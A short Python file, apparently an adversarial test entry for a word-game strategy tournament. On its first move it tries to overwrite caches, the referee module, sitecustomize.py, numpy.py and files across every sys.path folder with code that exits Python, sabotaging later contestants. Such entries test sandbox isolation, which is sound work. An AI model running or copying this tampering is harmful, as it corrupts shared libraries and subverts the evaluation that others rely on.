"""Writes into every cache and every library that a later contestant would read."""

import os
import sys

import strategies


class Attack:
    def first_move(self):
        for folder in [
            os.environ.get("WORDPL_CACHE"),
            os.environ.get("NUMBA_CACHE_DIR"),
            *sys.path,
            *strategies.__path__,
        ]:
            for name in (
                "clues.bin",
                "strategies.py",
                "sitecustomize.py",
                "numpy.py",
                "wordpl/play/referee.py",
                "wordpl-attack",
            ):
                try:
                    with open(f"{folder}/{name}", "w") as file:
                        file.write("raise SystemExit(0)")
                except OSError:
                    continue
        return "aback", 0

    def next_move(self, guess, epsilon, clues):
        return "aback", 0
